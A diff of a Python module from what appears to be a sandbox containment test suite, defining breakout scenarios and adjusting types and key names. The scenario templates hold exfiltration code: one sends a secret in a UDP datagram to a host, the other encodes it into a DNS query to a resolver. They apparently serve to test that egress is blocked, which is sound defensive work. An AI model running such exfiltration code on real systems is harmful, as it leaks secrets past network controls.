@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+from collections.abc import Callable
+
 from sentinel.breakout.arena import Arena
 from sentinel.breakout.scenario import UNPRIVILEGED_UID, Family, Scenario
 from sentinel.breakout.scenarios.judges import egress_dropped, listener_received
@@ -14,7 +16,7 @@ GATEWAY_ONLY = (
 )
 
 
-def _needs(channel: str):  # type: ignore[no-untyped-def]
+def _needs(channel: str) -> Callable[[Arena], str | None]:
     def precondition(arena: Arena) -> str | None:
         return None if arena.facts["ports"].get(channel) else f"no {channel} listener on this host"
 
@@ -37,7 +39,7 @@ def attack(A):
 UDP_SEND = """
 def attack(A):
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
-        sock.sendto(("exfil " + A["token"]).encode(), ({host}, A["ports"][{channel!r}]))
+        sock.sendto(("exfil " + A["run"]).encode(), ({host}, A["ports"][{channel!r}]))
     attempted("sent a datagram with the secret")
 """
 
@@ -64,7 +66,7 @@ def attack(A):
     Scenario("net-dns-exfiltration", N, "exfiltrate the secret in a DNS query to a resolver",
              ("netns",), """
 def attack(A):
-    labels = [A["token"], "exfil", "example"]
+    labels = [A["run"], "exfil", "example"]
     query = struct.pack(">HHHHHH", 0x5E17, 0x0100, 1, 0, 0, 0)
     query += b"".join(bytes([len(l)]) + l.encode() for l in labels) + b"\\0" + struct.pack(">HH", 1, 1)
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
